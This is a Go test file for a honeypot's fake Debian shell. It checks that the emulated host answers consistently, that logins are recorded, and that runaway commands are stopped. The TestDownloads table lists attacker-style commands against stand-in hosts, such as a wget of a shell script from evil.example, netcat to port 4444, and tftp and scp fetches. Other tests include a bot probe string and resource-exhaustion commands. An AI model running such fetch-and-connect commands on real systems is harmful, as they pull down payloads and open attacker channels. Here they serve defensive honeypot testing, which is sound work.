package coreutils_test

import (
	"fmt"
	"net/netip"
	"regexp"
	"strings"
	"testing"
	"time"

	"honeyguide/internal/deception/coreutils"
	"honeyguide/internal/deception/machine"
	"honeyguide/internal/deception/vfs"
)

// TestMachineAgrees asks one machine the same thing in several ways.
func TestMachineAgrees(t *testing.T) {
	b := newBench(t, "debian-12")
	m := b.host.Machine
	first := func(line string) string {
		t.Helper()
		out, err, _ := b.pipe(line)
		if err != "" {
			t.Errorf("%s: %s", line, err)
		}
		return strings.TrimSpace(out)
	}
	same := func(what string, values ...string) {
		t.Helper()
		for _, v := range values[1:] {
			if v != values[0] || v == "" {
				t.Errorf("%s: %q", what, values)
				return
			}
		}
	}
	same("processors", first("nproc"), first("grep -c ^processor /proc/cpuinfo"), first("lscpu | awk /^CPU.s/{print$2}"), fmt.Sprint(m.CPU.Count()))
	same("host name", first("hostname"), first("uname -n"), first("cat /etc/hostname"), first("cat /proc/sys/kernel/hostname"), "srv01")
	same("kernel", first("uname -r"), first("cat /proc/sys/kernel/osrelease"), first("awk {print$3} /proc/version"))
	same("memory", first("awk /^MemTotal/{print$2} /proc/meminfo"), first("free | awk /^Mem/{print$2}"))
	same("swap", first("awk /^SwapTotal/{print$2} /proc/meminfo"), first("free | awk /^Swap/{print$2}"))
	same("boot", first("awk /^btime/{print$2} /proc/stat"), fmt.Sprint(m.Boot.Unix()))
	same("uptime", first("cut -d. -f1 /proc/uptime"), fmt.Sprint(int(moment.Sub(m.Boot).Seconds())))
	same("root device", first("df / | awk NR==2{print$1}"), first(`mount | awk $3=="/"{print$1}`))
	same("address", first("hostname -I"), m.Main().Addr.Addr().String())
	same("ports", first("ss -tln | grep -c LISTEN"), first("netstat -tln | grep -c LISTEN"))
	same("model", first("grep -m1 ^model.name /proc/cpuinfo | cut -d: -f2"), first("lscpu | grep ^Model.name | cut -d: -f2"))
	same("load", first("awk {print$1} /proc/loadavg"), strings.TrimSuffix(first("uptime | awk {print$(NF-2)}"), ","))
}

func TestThingsMove(t *testing.T) {
	b := newBench(t, "debian-12")
	for _, path := range []string{"/proc/uptime", "/proc/meminfo", "/proc/stat", "/proc/net/dev"} {
		one, _, _ := b.run("", "cat", path)
		b.now = b.now.Add(37 * time.Second)
		if two, _, _ := b.run("", "cat", path); one == two {
			t.Errorf("%s stands still", path)
		}
	}
	for i := range 300 {
		b.now = b.now.Add(13 * time.Second)
		if out, _, _ := b.run("", "uptime"); strings.Contains(out, "0.00, 0.00, 0.00") {
			t.Fatalf("step %d: %s", i, out)
		}
	}
}

func TestSessionShows(t *testing.T) {
	b := newBench(t, "debian-12")
	table := machine.TableOf(b.fs)
	s := table.OpenSSH("root", 0, 0, true, netip.MustParseAddrPort("10.0.0.5:22"), netip.MustParseAddrPort("203.0.113.9:51122"))
	shell := table.Spawn(machine.Process{PPID: s.SSHD, User: "root", Args: []string{"-bash"}, Exe: "/usr/bin/bash", TTY: s.TTY})
	for line, want := range map[string]string{
		"ps aux": `(?m)^root +\d+ .* pts/0 +.*-bash$`, "w": `(?m)^root +pts/0 +203\.0\.113\.9`, "who": `root +pts/0 .*\(203\.0\.113\.9\)`, "last": `root +pts/0 +203\.0\.113\.9 .*still logged in`,
		"ps -ef": `sshd: root@pts/0`, "ss -tn": `ESTAB.*203\.0\.113\.9:51122`, "netstat -tn": `203\.0\.113\.9:51122 +ESTABLISHED`,
		fmt.Sprintf("cat /proc/%d/comm", shell): `^-?bash\n$`, fmt.Sprintf("readlink /proc/%d/exe", shell): `^/usr/bin/bash\n$`,
	} {
		out, _, _ := b.run("", strings.Fields(line)...)
		if !regexp.MustCompile(want).MatchString(out) {
			t.Errorf("%s does not show %s:\n%s", line, want, out)
		}
	}
	if _, _, rc := b.run("", "kill", fmt.Sprint(shell)); rc != 0 {
		t.Errorf("kill: %d", rc)
	}
	if _, ok := table.Get(shell); ok {
		t.Error("a killed process lives")
	}
	s.Close()
	if out, _, _ := b.run("", "who"); out != "" {
		t.Errorf("who after the end: %s", out)
	}
}

func TestSelf(t *testing.T) {
	b := newBench(t, "debian-12")
	for line, want := range map[string]string{
		"readlink /proc/self/exe": "/usr/bin/readlink\n", "cat /proc/self/comm": "cat\n", "cat /proc/self/cmdline": "cat\x00/proc/self/cmdline\x00",
		"ls /proc/self/fd": "0\n1\n2\n3\n", "head -c 4 /proc/self/exe": "\x7fELF", "readlink -f /bin/sh": "/usr/bin/dash\n",
	} {
		if out, err, rc := b.run("", strings.Fields(line)...); out != want || err != "" || rc != 0 {
			t.Errorf("%s = %q %q %d, want %q", line, out, err, rc, want)
		}
	}
	for line, want := range map[string]string{
		"touch /proc/x": "touch: cannot touch '/proc/x': No such file or directory\n", "touch /sys/x": "touch: cannot touch '/sys/x': Permission denied\n",
	} {
		if _, err, rc := b.run("", strings.Fields(line)...); err != want || rc != 1 {
			t.Errorf("%s: %q %d", line, err, rc)
		}
	}
}

// TestHostTexts are answers that hang on the persona, as a real one gave them.
func TestHostTexts(t *testing.T) {
	b := newBench(t, "debian-12-fresh")
	for _, tt := range []struct {
		line, out, err string
		rc             int
	}{
		{"cat /etc/issue", "Debian GNU/Linux 12 \\n \\l\n\n", "", 0},
		{"ls /", "bin\nboot\ndev\netc\nhome\nlib\nlib64\nmedia\nmnt\nopt\nproc\nroot\nrun\nsbin\nsrv\nsys\ntmp\nusr\nvar\n", "", 0},
		{"ls -a /root", ".\n..\n.bashrc\n.profile\n", "", 0},
		{"id", "uid=0(root) gid=0(root) groups=0(root)\n", "", 0},
		{"which ls wget nosuch", "/usr/bin/ls\n/usr/bin/wget\n", "", 1},
		{"busybox ECCHI", "", "ECCHI: applet not found\n", 127},
		{"wget", "", "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 1},
		{"perl -e print|1+1", "2", "", 0},
		{"python3 -c print(1+1)", "2\n", "", 0},
		{"gcc", "", "gcc: fatal error: no input files\ncompilation terminated.\n", 1},
		{"service", "", "Usage: service < option > | --status-all | [ service_name [ command | --full-restart ] ]\n", 1},
		{"ps aux | head -1", "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n", "", 0},
		{"ps | head -1", "    PID TTY          TIME CMD\n", "", 0},
		{"df -h | head -1", "Filesystem      Size  Used Avail Use% Mounted on\n", "", 0},
		{"dpkg -l | head -1", "Desired=Unknown/Install/Remove/Purge/Hold\n", "", 0},
		{"dpkg -s bash | head -2", "Package: bash\nEssential: yes\n", "", 0},
		{"diff /etc/passwd /etc/group | head -1", "1,20c1,42\n", "", 0},
		{"mount | head -1 | awk {print|NF}", "6\n", "", 0},
		{"stat -c %a /etc/passwd /tmp", "644\n1777\n", "", 0},
		{"useradd --help | head -1", "Usage: useradd [options] LOGIN\n", "", 0},
		{"timeout 1 sleep 5", "", "", 124},
		{"file /bin/ls", "/bin/ls: ELF 64-bit LSB pie executable, x86-64, version 1 (SYSV), dynamically linked, interpreter /lib64/ld-linux-x86-64.so.2, BuildID[sha1]=ID, for GNU/Linux 3.2.0, stripped\n", "", 0},
		{"strings /bin/ls | head -1", "/lib64/ld-linux-x86-64.so.2\n", "", 0},
		{"crontab -l", "", "no crontab for root\n", 1},
		{"ls -l /dev/null", "crw-rw-rw- 1 root root 1, 3 Nov 21 09:30 /dev/null\n", "", 0},
		{"sha256sum /bin/ls | wc -l", "1\n", "", 0},
		{"sudo -l | head -2", "Matching Defaults entries for root on srv01:\n    env_reset, mail_badpass,\n", "", 0},
	} {
		b.reset()
		var out, err string
		rc := 0
		for _, stage := range strings.Split(tt.line, " | ") {
			argv := strings.Fields(stage)
			for i := range argv {
				argv[i] = strings.ReplaceAll(argv[i], "|", " ")
			}
			var e string
			out, e, rc = b.run(out, argv...)
			err += e
		}
		out = regexp.MustCompile(`sha1\]=[0-9a-f]{40}`).ReplaceAllString(out, "sha1]=ID")
		out = regexp.MustCompile(`[A-Z][a-z]{2} [ 0-9]\d [ \d:]{5} /dev/null`).ReplaceAllString(out, "Nov 21 09:30 /dev/null")
		if out != tt.out || err != tt.err || rc != tt.rc {
			t.Errorf("%s\n got %q %q %d\nwant %q %q %d", tt.line, out, err, rc, tt.out, tt.err, tt.rc)
		}
	}
}

func TestBusyboxText(t *testing.T) {
	b := newBench(t, "debian-12")
	out, _, rc := b.run("", "busybox")
	lines := strings.Split(out, "\n")
	if rc != 0 || lines[0] != "BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary." || len(lines) != 47 ||
		lines[17] != "\t[, [[, acpid, adjtimex, ar, arch, arp, arping, ascii, ash, awk, base64," || lines[45] != "\txxd, xz, xzcat, yes, zcat" {
		t.Errorf("%d lines, status %d: %q %q", len(lines), rc, lines[17], lines[len(lines)-2])
	}
	if out, _, _ := b.run("", "busybox", "echo", "hi"); out != "hi\n" {
		t.Errorf("applet: %q", out)
	}
}

func TestAccounts(t *testing.T) {
	b := newBench(t, "debian-12")
	if _, err, rc := b.run("root:abc\nnobody2:x\n", "chpasswd"); rc != 1 || !strings.Contains(err, "(line 2, user nobody2)") {
		t.Errorf("chpasswd: %q %d", err, rc)
	}
	if _, _, rc := b.run("", "useradd", "-m", "-s", "/bin/bash", "eve"); rc != 0 {
		t.Errorf("useradd: %d", rc)
	}
	if out, _, _ := b.run("", "id", "eve"); out != "uid=1001(eve) gid=1001(eve) groups=1001(eve)\n" {
		t.Errorf("id: %s", out)
	}
	if out, _, _ := b.run("", "ls", "-A", "/home/eve"); out != ".bash_logout\n.bashrc\n.profile\n" {
		t.Errorf("home: %q", out)
	}
	if out, err, rc := b.run("one\ntwo\n", "passwd"); rc != 10 || out != "" || !strings.HasSuffix(err, "passwd: password unchanged\n") {
		t.Errorf("passwd: %q %d", err, rc)
	}
	want := "auth chpasswd root abc,auth chpasswd nobody2 x"
	if got := strings.Join(b.seen, ","); !strings.HasPrefix(got, want) {
		t.Errorf("watched %s", got)
	}
	b.cred = vfs.Cred{UID: 1001, GID: 1001}
	if _, err, rc := b.run("", "cat", "/etc/shadow"); rc != 1 || err != "cat: /etc/shadow: Permission denied\n" {
		t.Errorf("shadow as a user: %q %d", err, rc)
	}
}

func TestDownloads(t *testing.T) {
	b := newBench(t, "debian-12")
	for _, tt := range []struct {
		line string
		rc   int
		err  string
		seen string
	}{
		{"wget http://evil.example/x.sh -O /tmp/x", 4, "wget: unable to resolve host address ‘evil.example’\n", "get wget http://evil.example/x.sh /tmp/x"},
		{"curl -s http://203.0.113.7/a", 7, "", "get curl http://203.0.113.7/a "},
		{"curl http://evil.example/a", 6, "curl: (6) Could not resolve host: evil.example\n", "get curl http://evil.example/a "},
		{"wget -q http://127.0.0.1:81/", 4, "", "get wget http://127.0.0.1:81/ index.html"},
		{"tftp -g -r m.sh 203.0.113.7", 1, "tftp: timeout\n", "get tftp tftp://203.0.113.7/m.sh m.sh"},
		{"nc 203.0.113.7 4444", 1, "", "get nc tcp://203.0.113.7:4444 "},
		{"scp root@203.0.113.7:/x .", 1, "scp: Connection closed\n", "get scp scp://root@203.0.113.7:/x . "},
	} {
		b.seen = nil
		_, err, rc := b.run("", strings.Fields(tt.line)...)
		if rc != tt.rc || !strings.HasSuffix(err, tt.err) || len(b.seen) == 0 || b.seen[0] != tt.seen {
			t.Errorf("%s: %d %q %q", tt.line, rc, err, b.seen)
		}
	}
}

func TestBudget(t *testing.T) {
	b := newBench(t, "debian-12")
	b.fixture()
	b.write("/w/long", strings.Repeat("a", 3000)+"\n", 0o644)
	b.budget = 20000
	for _, line := range []string{
		"yes", "cat /dev/zero", "seq 1 1000000000", "find / -exec true ;", "dd if=/dev/zero of=/dev/null", "tr a b </dev/zero", "head -c 99999999999 /dev/urandom", "sort /dev/zero",
		"grep -a \x01\x02\x03\x04\x05 /dev/urandom", "sed -n :a;ba /w/fruit", "md5sum /dev/zero", "awk BEGIN{while(1);} -", "tail -f /dev/zero", "base64 /dev/zero", "od /dev/urandom", "wc /dev/zero", "rev /dev/zero",
		`grep -E ^(a*)*\1b$ /w/long`, "gzip -c /dev/zero", "tac /dev/zero", "shuf -i 1-1000000", "cp /dev/zero /w/z", "cat -n /dev/zero",
	} {
		line = strings.ReplaceAll(line, "</dev/zero", "")
		argv := strings.Fields(line)
		stdin := ""
		start := time.Now()
		if argv[0] == "tr" {
			stdin = strings.Repeat("a", 1<<26)
		}
		if _, _, rc := b.run(stdin, argv...); rc == 0 {
			t.Errorf("%s ended well", line)
		}
		if took := time.Since(start); testing.Verbose() {
			t.Logf("%s: %s", line, took)
		}
	}
}

// FuzzCommands gives every command any arguments and input: nothing panics and
// nothing outruns its budget.
func FuzzCommands(f *testing.F) {
	for _, s := range []string{
		"ls -la /", "sed s/a/b/g", "awk {print}", "find / -name x", "tar czf - /etc", "grep -E (a|b)+ /etc/passwd", "dd if=/dev/zero bs=9 count=2", "printf %d%s%b x y z",
		"sort -k1,2n -t:", "date -d @5 +%c", "ps auxww", "chmod u+s,g-x /etc", "xargs -I{} echo {}", "tr -cd [:alnum:]", "test ( a = b ) -o !", "expr a : \\(.\\)", "head -c -5", "od -tx1z", "curl -o x http://[::1]:99/",
		"cut -f1-,3", "seq -f %g 1 .1 2", "stat -c %n%%%y /", "busybox tar x", "env -i A=b cat", "ls --color=always -x", "xxd -r -p", "base64 -d", "crontab -", "join x", "comm -", "diff / /",
	} {
		f.Add(s, "one:two\nthree\x00four\n")
	}
	b := newBench(f, "debian-12")
	f.Fuzz(func(t *testing.T, line, stdin string) {
		if len(line) > 4096 {
			return
		}
		argv := strings.Split(line, " ")
		cmd, ok := coreutils.Lookup(argv[0])
		if !ok {
			return
		}
		b.reset()
		b.now, b.budget = moment, 5000
		_ = cmd(b.proc(strings.NewReader(stdin), &strings.Builder{}, &strings.Builder{}, argv))
	})
}

func BenchmarkEcho(b *testing.B) { benchmark(b, "echo", "hello") }
func BenchmarkLs(b *testing.B)   { benchmark(b, "ls", "-la", "/etc") }
func BenchmarkPs(b *testing.B)   { benchmark(b, "ps", "aux") }
func BenchmarkGrep(b *testing.B) { benchmark(b, "grep", "-c", "root", "/etc/passwd") }
func BenchmarkAwk(b *testing.B)  { benchmark(b, "awk", "-F:", "$3==0{print $1}", "/etc/passwd") }

func benchmark(b *testing.B, argv ...string) {
	x := newBench(b, "debian-12")
	b.ReportAllocs()
	for b.Loop() {
		x.run("", argv...)
	}
}
